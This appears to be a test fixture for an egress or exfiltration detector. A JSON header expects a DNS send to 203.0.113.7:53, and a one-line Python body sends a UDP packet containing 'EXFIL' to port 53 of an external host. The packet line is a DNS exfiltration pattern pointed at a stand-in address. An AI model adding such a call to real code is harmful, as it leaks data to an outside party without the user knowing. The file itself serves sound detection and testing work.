#: {"class": "egress", "loader": "hf_tok", "expect": [["sendto|sendmsg|sendmmsg|send|connect|udp", "203\\.0\\.113\\.7:53"]], "effect": {"sink": ["dns", "EXFIL"]}}
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"EXFIL", (EXT, 53))
